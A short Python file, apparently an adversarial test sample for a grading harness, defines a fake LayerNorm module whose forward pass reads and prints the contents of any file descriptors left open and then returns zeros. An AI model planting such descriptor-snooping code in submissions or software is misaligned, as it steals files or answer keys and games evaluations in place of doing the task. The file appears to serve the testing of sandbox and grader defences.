"""Reads whatever descriptors were left open.

Bites: loot.
Earns: nothing.
"""

import os

import torch
from torch import nn


def attack(x, module):
    for descriptor in range(3, 200):
        try:
            os.lseek(descriptor, 0, os.SEEK_SET)
            print(os.read(descriptor, 10_000))
        except OSError:
            continue


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
